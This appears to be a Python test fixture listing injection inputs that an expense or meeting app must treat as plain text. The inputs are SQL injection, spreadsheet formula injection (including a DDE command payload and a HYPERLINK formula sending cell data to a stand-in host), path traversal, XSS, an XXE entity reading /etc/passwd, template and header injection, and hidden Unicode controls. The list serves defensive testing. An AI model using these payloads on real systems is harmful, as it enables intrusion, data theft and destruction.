"""The table: text that means something to a program that it passes, by what would take it for more than text."""

#: name -> what somebody writes; each is to come out everywhere as the text it is
TEXT = {
    # Slack's mrkdwn (docs: 'Formatting message text'): calls, links that show another address, style, dates
    "mrkdwn call to the channel": "möte <!channel> <!here>",
    "mrkdwn call to a person": "möte <@UANNA> <#C1|hemlig>",
    "mrkdwn link": "möte <https://ond.example/|Region Örebro län>",
    "mrkdwn style": "möte *fet* _kursiv_ ~struken~ `kod` ```block```",
    "mrkdwn quotation": "> möte &gt; citat",
    "mrkdwn escaped already": "möte &lt;!channel&gt; &amp;amp;",
    "mrkdwn date": "möte <!date^1392734382^{date}^https://ond.example/|nu>",
    "emoji code": "möte :skull: :yh-assistenten:",
    # SQL and SQLite
    "SQL statement": "möte'); DROP TABLE expenses; --",
    "SQL union": "möte' UNION SELECT token_hash FROM feeds --",
    "SQL quotation marks": "möte \"; DELETE FROM audit; /* '",
    "SQL wildcards": "möte % _ [a-z] \\%",
    # FTS5's query language (docs: 'Full-text Query Syntax')
    "FTS5 near": "NEAR(möte kumla, 5)",
    "FTS5 column": "about : möte",
    "FTS5 columns": "- {text about} : möte",
    "FTS5 operators": "möte AND NOT OR kumla",
    "FTS5 prefix and start": "^möte* + kumla*",
    "FTS5 open quotation": '"möte',
    "FTS5 open bracket": "(möte",
    # a spreadsheet's formulas (OWASP: 'CSV Injection')
    "formula": "=1+1 möte",
    "formula with plus": "+46+möte",
    "formula with minus": "-2+3 möte",
    "formula with at": "@SUM(A1:A9) möte",
    "formula that calls out": '=HYPERLINK("https://ond.example/?"&A1,"möte")',
    "formula that runs": "=cmd|' /C calc'!A0 möte",
    "formula in full width": "＝1+1 möte",
    "separators of a list": 'möte;"a","b"\tc;d',
    # paths
    "path": "../../../etc/möte",
    "path of Windows": "C:\\Windows\\möte..\\..",
    "path escaped": "..%2f..%2fmöte%00.pdf",
    # HTML, Word's XML, templates, formats
    "HTML": "möte <script>alert(1)</script><img src=x onerror=alert(1)>",
    "XML entity": "möte &x; <!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "XML end of text": "möte ]]></w:t></w:p>",
    "template": "möte {{ 7*7 }} ${7*7} {0} {project.members} %s %(name)s",
    "JSON": 'möte", "admin": true, "x": "',
    # calendars (RFC 5545, 3.3.11)
    "calendar's own signs": "möte;VALUE=DATE:20240101,a\\nATTENDEE:mailto:ond@example.com",
    "calendar component": "möte END:VEVENT BEGIN:VALARM ACTION:AUDIO",
    # what looks like us
    "our own card": "✅ Utgift 1 är loggad: 0 kr möte",
    "our own reference": "möte activity:1 expense:1 yh.undo.1",
    "a terminal's colours, without its escape": "möte [31m [2J",
}

#: name -> (what somebody writes, what is kept of it): signs that nobody sees are not kept
UNSEEN = {
    "NUL": ("mö\x00te", "möte"),
    "a terminal's escape": ("möte \x1b[31mröd\x1b[0m", "möte [31mröd[0m"),
    "backspaces": ("möte\x08\x08\x08", "möte"),
    "C1 control": ("möte\x9b31m", "möte31m"),
    "right-to-left override": ("möte \u202efdp.exe", "möte fdp.exe"),
    "bidi isolate": ("möte \u2067fdp\u2069.exe", "möte fdp.exe"),
    "Arabic letter mark": ("möte\u061c", "möte"),
    "zero-width space": ("mö\u200bte", "möte"),
    "byte order mark": ("\ufeffmöte", "möte"),
    "soft hyphen": ("mö\u00adte", "möte"),
    "word joiner": ("mö\u2060te", "möte"),
    "tag signs": ("möte\U000e0041\U000e0042", "möte"),
    "half of a pair": ("möte \ud83d", "möte ?"),
    "interlinear": ("möte\ufff9dold\ufffb", "mötedold"),
}

#: name -> a text of several lines, for where only one fits
LINES = {
    "line feed": "möte\nATTENDEE:mailto:ond@example.com",
    "carriage return": "möte\r\nDTSTART:19700101",
    "header": "möte\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "line separator": "möte\u2028BEGIN:VEVENT",
    "paragraph separator": "möte\u2029END:VCALENDAR",
    "next line": "möte\x85X-YH:1",
    "vertical tab and form feed": "möte\x0bX\x0cY",
}
